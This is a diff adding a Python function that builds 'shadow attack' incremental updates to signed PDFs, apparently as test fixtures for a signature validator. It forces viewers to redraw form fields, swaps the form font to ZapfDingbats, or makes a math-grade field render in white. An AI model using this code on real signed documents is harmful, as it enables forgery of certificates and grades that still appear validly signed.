@@ -1073,3 +1073,48 @@ def certificate_swapped(pdf: bytes, certificate: bytes, index: int = -1) -> byte
         ),
     )
     return _replace_contents(pdf, index, content_info.dump(force=True))
+
+
+# -- Shadow attack, *replace*: what a viewer redraws form fields from ------------------------------
+
+
+def form_redrawn(pdf: bytes, variant: str) -> bytes:
+    """A later update that leaves every field's value and appearance streams alone but makes viewers
+    draw the fields again from their inputs (``/NeedAppearances true``) — ``need-appearances``:
+    only that; ``font-swapped``: and the form's ``/Helv`` is now ZapfDingbats, so the grade shows
+    as symbols; ``default-appearance``: and the grade's ``/DA`` writes in white."""
+    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
+    form = writer.root["/AcroForm"]
+    form[_n("/NeedAppearances")] = generic.BooleanObject(True)
+    if variant == "font-swapped":
+        form[_n("/DR")] = generic.DictionaryObject(
+            {
+                _n("/Font"): generic.DictionaryObject(
+                    {
+                        _n("/Helv"): writer.add_object(
+                            generic.DictionaryObject(
+                                {
+                                    _n("/Type"): _n("/Font"),
+                                    _n("/Subtype"): _n("/Type1"),
+                                    _n("/BaseFont"): _n("/ZapfDingbats"),
+                                }
+                            )
+                        )
+                    }
+                )
+            }
+        )
+    elif variant == "default-appearance":
+        ref = _field_ref(writer, "diem_toan")
+        ref.get_object()[_n("/DA")] = generic.TextStringObject("/Helv 12 Tf 1 1 1 rg")
+        writer.mark_update(ref)
+    elif variant != "need-appearances":
+        raise ValueError(variant)
+    form_ref = writer.root.raw_get("/AcroForm")
+    if isinstance(form_ref, generic.IndirectObject):
+        writer.mark_update(form_ref)
+    else:
+        writer.update_root()
+    out = BytesIO()
+    writer.write(out)
+    return out.getvalue()
